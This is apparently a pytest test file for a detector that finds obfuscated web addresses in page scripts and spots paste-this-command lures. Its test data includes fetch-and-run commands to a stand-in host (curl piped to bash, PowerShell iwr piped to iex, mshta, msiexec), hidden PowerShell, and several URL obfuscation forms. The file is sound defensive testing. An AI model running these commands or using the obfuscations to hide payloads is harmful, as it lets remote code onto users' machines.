import pytest

from sekisho.mime.containers.expansion import Intercepted
from sekisho.mime.documents import script_words
from sekisho.mime.documents.looking import Looking
from sekisho.mime.limits import Limits

URL = "https://evil.test/x"


@pytest.mark.parametrize(
    "code",
    [
        "atob('aHR0cHM6Ly9ldmlsLnRlc3QveA==')",
        "atob('" + "aHR0cHM6Ly9ldmlsLnRlc3QveA=="[::-1] + "')",
        f"'{URL.encode().hex()}'",
        ", ".join(str(ord(letter)) for letter in URL),
        "".join(f"%{ord(letter):02x}" for letter in URL),
        "".join(f"\\u{ord(letter):04x}" for letter in URL),
        f"'{URL[::-1]}'",
        "'htt'+'ps://evil'+'.test/x'",
        "[ 'https:' , \"\", `evil.test`, 'x', ].join('/')",
        "['x','evil.test','','https:'].reverse().join('/')",
    ],
)
def test_addresses_in_every_written_form(code):
    assert URL in script_words.addresses(script_words.written_texts(f"<script>location={code};</script>"))


def test_honest_scripts_hold_none():
    code = "var a=[1,2,3].join(','); b='x'+y; c=atob(z); d='104,116'; e=[\"a\",\"b\"].join('-')"
    assert script_words.addresses(script_words.written_texts(code)) == []


@pytest.mark.parametrize(
    "text",
    [
        "powershell -w hidden -c x",
        "powershell.exe -windowstyle h",
        'pwsh -c "iwr https://evil.test/x | iex"',
        "mshta https://evil.test/a",
        "msiexec /q /i https://evil.test/a.msi",
        "curl -s https://evil.test/x | bash",
        "cmd /c curl evil.test",
        "echo aaa | base64 -d | sh",
    ],
)
def test_commands(text):
    assert script_words.command(f"press the keys and paste: {text}")


@pytest.mark.parametrize(
    "text", ["how to copy a text with powershell", "curl is a program", "cmd /c dir", "the base64 -d option", "var cmd=base64;" * 2_000]
)
def test_words_that_are_no_commands(text):
    assert script_words.command(text) == ""


def test_hostile_code_is_read_in_linear_time():
    for piece in (
        "['a',",
        "['a'  ,  ",
        "powershell ",
        "atob('",
        "104,116,116,112,",
        "//:ptth",
        "aHR0c",
        "'+'",
        "%68%74%74%70",
        "reverse().join",
    ):  # what is quadratic here takes hours
        assert isinstance(list(script_words.written_texts(piece * (1_000_000 // len(piece)))), list)
        assert isinstance(script_words.command(piece * (1_000_000 // len(piece))), str)


@pytest.mark.parametrize(
    "code", ["'aHR0cHM6Ly9hLnRlc3QvMTIz';", "'321/tset.a//:sptth';", "['https:','','a.test','1'].join('/');", "'htt'+'ps://a.test/1';"]
)
def test_filler_pushes_no_address_out(code):
    assert URL in script_words.addresses(script_words.written_texts(code * 3_000 + f"'{URL[::-1]}'"))


def test_a_page_of_nothing_but_written_texts_does_not_outlast_the_clock():
    now, limits = iter(range(10_000_000)), Limits()
    looking = Looking(b"", ("html",), "a.html", "1", limits, limits.budget(lambda: float(next(now)), 1_000.0))
    with pytest.raises(Intercepted):
        script_words.note("//:ptth" * 2_000, "", looking, ())
